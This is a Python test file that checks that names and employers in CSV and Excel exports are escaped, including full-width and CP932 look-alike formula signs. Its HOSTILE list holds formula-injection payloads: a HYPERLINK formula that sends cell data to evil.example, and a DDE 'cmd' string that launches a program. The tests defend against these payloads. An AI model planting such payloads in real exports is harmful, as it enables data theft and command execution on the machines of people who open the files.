"""A name or an employer a client sent is text in every export an authority opens in a spreadsheet, never
a formula: in the CSV (a leading apostrophe, ``safe_cell``) and in the workbook (a string cell). Japanese
spreadsheet users type formulas with the full-width signs too (＝ ＋ － ＠: Excel reads them as = + - @ when
a cell is entered in full-width mode), so a cell starting with one is escaped like its ASCII sign."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from consumers.feed.delivery import Delivery, Individual, individual_rows, to_csv
from hub.portal.downloads import xlsx_file
from infra.codecs.csv_write import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_is_written_as_text_in_the_csv(text: str) -> None:
    assert safe_cell(text) == "'" + text
    delivery = Delivery(body={}, individuals=[_person(text)])
    for encoding in ("utf-8", "cp932"):
        data, _ = to_csv(individual_rows(delivery), encoding)  # type: ignore[arg-type]
        row = list(csv.reader(io.StringIO(data.decode(encoding), newline="")))[1]
        assert row[0] == "'" + text and row[1] == "'" + text


@pytest.mark.parametrize("number", ["-3", "+1.5", "12", "0"])
def test_a_plain_number_is_left_as_it_is(number: str) -> None:
    assert safe_cell(number) == number


def test_every_text_cell_of_the_workbook_is_a_string_never_a_formula() -> None:
    delivery = Delivery(body={}, individuals=[_person(text) for text in HOSTILE])
    content = xlsx_file(delivery, "individuals")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))
    assert names == [t.replace("\r", "\n") for t in HOSTILE]  # XML reads a CR as a line feed


def _person(text: str) -> Individual:
    return Individual("0" * 32, text, text, date(2025, 5, 12), "08", "self_found", None)


_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def _same_in_cp932() -> list[str]:
    """Every character the CP932 exports write as the bytes of a formula sign (review11 F3: U+2212 MINUS
    SIGN is written as 0x817C, the bytes of －, which is what Excel reads from the file)."""
    signs = {s.encode("cp932") for s in _SIGNS}
    found = []
    for point in range(0x80, 0x110000):
        try:
            if chr(point).encode("cp932") in signs:
                found.append(chr(point))
        except UnicodeEncodeError:
            continue
    return found


def test_a_cell_written_in_cp932_as_a_formula_signs_bytes_is_escaped_as_that_sign() -> None:
    alike = _same_in_cp932()
    assert "\u2212" in alike  # control: the minus sign is one
    delivery = Delivery(body={}, individuals=[_person(c + "1+cmd|' /C calc'!A0") for c in alike])
    data, _ = to_csv(individual_rows(delivery), "cp932")  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(data.decode("cp932"), newline="")))[1:]
    assert rows and all(row[0].startswith("'") and row[1].startswith("'") for row in rows), rows
